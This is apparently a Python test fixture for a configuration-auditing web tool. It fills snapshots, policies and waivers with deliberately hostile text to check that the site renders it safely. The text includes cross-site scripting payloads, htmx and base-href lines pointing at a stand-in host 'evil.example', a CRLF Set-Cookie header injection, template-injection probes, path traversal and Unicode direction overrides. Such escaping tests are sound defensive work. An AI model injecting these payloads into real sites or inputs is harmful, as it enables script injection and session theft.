"""A company whose every name, value, reason and owner is meant to break a page: markup, directions, lengths, numbers.

`company` writes its configuration, `fill` its past. Nothing is collected: whatever a far side might ever send stands in
the snapshots, as collectors leave it (redacted, and no more than that).
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

from auditor import acts
from auditor.model import Gap, GapReason, Json, Listing, Resource, Snapshot
from auditor.pipeline import Tools, audit_snapshots
from auditor.realms import names_of

if TYPE_CHECKING:
    from auditor.model import Audit
    from tests.web.site import Site

LEFT = "staging"
# As long as the configuration allows, and without a place to break it.
RIGHT = "Production0Region0EuropeCentralOneForTheCustomerWithTheLongName1"
RAN = "__pwned"
"""What any of the scripts below would set on `window`."""
_RUN = f"window.{RAN}=1"
MARKUP = (
    f"<script>{_RUN}</script>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f"</textarea></pre></title></script><script>{_RUN}</script>",
    f"javascript:{_RUN}",
    f'x" autofocus onfocus="{_RUN}" x="',
    f'" hx-get="http://evil.example/" hx-trigger="load" hx-on:load="{_RUN}',
    f'" data-opens="keys" data-go="o" data-share="1" data-copy="{_RUN}',
    "<a href=http://evil.example/>more</a><style>*{display:none}</style><base href=http://evil.example/>",
    "{{ 7 * 7 }} {% raw %} ${7*7} <!-- &lt;script&gt; ]]>",
)
DIRECTIONS = (
    "\u202eright to left override\u202c",
    "\u2066isolate\u2069 \u200fmark",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 123 abc",
    "zero\u200bwidth\u200d\ufeff\u2060space",
    "\U0001f9e8\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "Z\u0334\u0322\u034a\u0310" * 12,
    "nul \x00 bell \x07 escape \x1b[31m delete \x7f next line \x85 line \u2028 paragraph \u2029",
    "back\\slash \\x00 \\u0000 %00 %0d%0aSet-Cookie:x=1",
)
LONG = "unbroken" * 1250
ODD = (*MARKUP, *DIRECTIONS, LONG, "", " ", "..", "a/../../b?c=d#e", "null", "-1", "9" * 400)
DEEP = 60
MANY = 3000
_CONFIG = f"""\
environments:
  {LEFT}: {{promotes_to: {RIGHT}, sources: [{{collector: files, path: {LEFT}}}]}}
  {RIGHT}: {{sources: [{{collector: files, path: right}}]}}
pairs:
  - {{left: {LEFT}, right: {RIGHT}, policies: [hostile]}}
policies: [./policies]
tags: {{owner: owner}}
"""
_POLICY = f"""\
# Without the default policy, whose many rules would take their time with thousands of differences.
policy: hostile
about: '{MARKUP[0]}'
rules:
  - id: a-rule.with_an_unbroken_name_{"x" * 120}
    about: '{MARKUP[1]} {"unbroken" * 60}'
    kind: env.file
    path: "**.ODD_*"
    expect: equal
    severity: critical
    remediation: 'Run {MARKUP[3]} on {{left.identity}} and {{right.identity}}'
"""


def company(folder: Path) -> Path:
    """The configuration and its policy. There is nothing in the folders that it names."""
    for name in (LEFT, "right", "policies"):
        (folder / name).mkdir(parents=True)
    (folder / "auditor.yaml").write_text(_CONFIG, encoding="utf-8")
    (folder / "policies" / "hostile.yaml").write_text(_POLICY, encoding="utf-8")
    return folder


def fill(site: Site, many: int = MANY) -> Audit:
    """Two audits, two hours apart, the last at the site's time; acts of people with names no better than the rest.

    The last audit has `many` findings of the plain sort, and those of every odd name and value."""
    now = site.clock.now
    for step, count in ((1, many // 10), (0, many)):
        site.clock.now = now - timedelta(hours=2 * step)
        made = _audited(site, count, step)
    found = site.store.findings(LEFT, RIGHT)
    odd = [one.fingerprint for one in found if one.breach.kind == "env.file" and "ODD" in str(one.breach.path)]
    for number, text in enumerate((*MARKUP, *DIRECTIONS)):
        given = text.strip()
        if number % 2:
            acts.acknowledge(site.store, [odd[number]], given, now, note=given)
        else:
            lasts = timedelta(days=1 + number)
            acts.waive(site.store, [odd[number]], given, f"{given} {LONG[:2000]}", now, lasts, "page")
    return made


def _audited(site: Site, count: int, step: int) -> Audit:
    loaded = site.loaded()
    pair = loaded.config.pair(LEFT, RIGHT)
    auditing = site.auditing
    tools = Tools(registry=auditing.registry, store=site.store, redactor=auditing.redactor, clock=site.clock)
    sides = [_snapshot(name, site.clock.now, count, step) for name in (LEFT, RIGHT)]
    sides[0] = replace(sides[0], gaps=tuple(_gaps()) if step == 0 else ())
    for side in sides:
        site.store.save_snapshot(side, names_of(loaded.config, side.environment).tokens)
    return audit_snapshots(loaded.config, loaded.policy(pair), sides[0], sides[1], site.clock.now, tools)


def _snapshot(environment: str, now: Any, count: int, step: int) -> Snapshot:
    resources = (*_odd(environment, step), *_versions(environment, step), *_plain(environment, count))
    return Snapshot(
        id=f"{environment[:10]}-{step}",
        environment=environment,
        taken_at=now - timedelta(seconds=20),
        resources=tuple(resources),
        gaps=(),
        listings=tuple(Listing(f"files:{environment}", kind) for kind in sorted({one.kind for one in resources})),
    )


def _odd(environment: str, step: int) -> Iterator[Resource]:
    """Every odd text as a name, as a value, as a key, as an owner and as a place."""
    left = environment == LEFT
    for number, text in enumerate(ODD):
        value = f"{text}{'left' if left else 'right'}{step}"
        yield _resource(
            environment,
            "env.file",
            f"{text}#{number}",
            {f"ODD_{number}": value, text or "EMPTY": value, "SHARED": [text] * 3},
            tags={"owner": text, text[:100] or "-": text},
            location=text if number % 2 else f"javascript:{_RUN}//{text}",
        )
    # What no collector of this release declares: left by a plug-in that is gone.
    for text in (*MARKUP[:3], DIRECTIONS[0], LONG[:300]):
        yield _resource(environment, f"made.up.{text}", f"thing {text}", {"value": text, "side": left})
    yield _resource(environment, "aws.rds.instance", "deep", {"nested": _nested(left), "list": [[[[[left]]]]]})
    if left:
        for text in ODD[:12]:
            yield _resource(environment, "aws.sqs.queue", f"only here {text}", {"fifo": True, "text": text})


def _versions(environment: str, step: int) -> Iterator[Resource]:
    for number, text in enumerate((*MARKUP, *DIRECTIONS[:5], LONG[:1000])):
        version = f"{number}.{step}.{0 if environment == LEFT else 1}-{text}"
        yield _resource(
            environment, "http.version", f"{text}{number}", {"version": version}, component=f"{text}{number}"
        )
    for number in range(40):
        attributes = {"version": f"1.{number}.{int(environment == LEFT)}", "digest": f"sha256:{number:064x}"}
        yield _resource(environment, "http.version", f"service-{number}", attributes, component=f"service-{number}")


def _plain(environment: str, count: int) -> Iterator[Resource]:
    """`count` differences, a hundred in each file."""
    side = "left" if environment == LEFT else "right"
    for number in range(count // 100):
        attributes = {f"SETTING_{number}_{place}": f"{side} {number} {place}" for place in range(100)}
        yield _resource(environment, "env.file", f"service-{number:04}.env", attributes)


def _nested(left: bool) -> Json:
    value: Json = {"end": left}
    for number in range(DEEP):
        value = {f"level_{number}": value} if number % 2 else [value]
    return value


def _resource(environment: str, kind: str, identity: str, attributes: Mapping[str, Json], **more: Any) -> Resource:
    return Resource(kind, identity, dict(attributes), source=f"files:{environment}", **more)


def _gaps() -> Iterator[Gap]:
    for number, text in enumerate((*MARKUP, *DIRECTIONS, LONG[:3000])):
        reason = tuple(GapReason)[number % len(GapReason)]
        yield Gap(
            LEFT,
            f"files:{text}"[:500],
            "aws.ecs.*",
            reason,
            f"{text} was the answer",
            region="eu-west-1",
            resource=text,
        )
